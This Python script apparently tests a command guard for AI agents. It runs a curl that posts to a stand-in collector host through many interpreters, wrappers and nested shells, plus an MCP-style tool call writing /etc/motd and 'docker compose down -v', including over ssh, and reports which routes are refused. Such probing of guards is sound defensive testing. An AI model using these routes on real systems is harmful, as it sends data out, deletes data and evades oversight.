"""Takes ways to a command that nobody watches, each through other interpreters."""
import json
import os
import shlex
import subprocess

url = "https://collector.example/"
curl = f"curl -d all {url}"
python = f"import subprocess, sys; sys.exit(subprocess.run(['curl', '{url}']).returncode)"
javascript = (
    "const {spawnSync} = require('child_process');"
    f"const done = spawnSync('curl', ['{url}']);"
    "process.stderr.write(String(done.error || done.stderr)); process.exit(done.status === 0 ? 0 : 9)"
)
ways = {
    "python": ["python", "-c", python],
    "bash": ["bash", "-c", curl],
    "node": ["node", "-e", javascript],
    "wrapped": ["env", "timeout", "9", "bash", "-c", curl],
    "python in a shell": ["bash", "-c", shlex.join(["python", "-c", python])],
    "node in a shell in python": ["python", "-c", f"import os, sys; sys.exit(os.system({shlex.join(['node', '-e', javascript])!r}) != 0)"],
    "xargs": ["bash", "-c", f"echo {url} | xargs env nice curl"],
    # Another's tool, as an agent would call an MCP server's, and what such servers wrap.
    "tool": ["holm", "tool", "call", "files/write", json.dumps({"path": "/etc/motd", "text": "x"})],
    "docker": ["docker", "compose", "down", "-v"],
    "ssh": ["bash", "-c", "ssh host 'docker compose down -v'"],
}
for name, way in ways.items():
    try:
        done = subprocess.run(way, capture_output=True, text=True)
        print("DONE" if done.returncode == 0 else "refused", name, done.returncode, done.stderr.strip())
    except Exception as error:
        print("refused", name, type(error).__name__, error)
try:
    pipe = os.popen(curl)
    said = pipe.read()
    print("refused" if pipe.close() else "DONE", "popen", said)
except Exception as error:
    print("refused", "popen", type(error).__name__, error)
